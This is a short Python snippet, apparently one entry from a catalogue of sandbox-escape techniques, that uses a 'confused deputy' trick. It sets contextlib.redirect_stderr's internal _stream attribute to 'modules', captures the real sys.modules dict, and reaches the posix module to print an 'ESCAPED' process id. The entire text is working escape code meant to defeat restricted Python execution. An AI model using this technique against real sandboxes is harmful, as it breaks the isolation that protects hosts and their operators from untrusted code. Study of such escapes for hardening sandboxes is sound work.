# technique: the same by an attribute of the instance
# goal: import
# source: own analysis: confused deputies
import contextlib
redirect = contextlib.redirect_stderr({})
redirect._stream = 'modules'
redirect.__enter__()
found = redirect._old_targets[0]
redirect.__exit__(None, None, None)
print('ESCAPED pid=%d' % found['posix'].getpid())
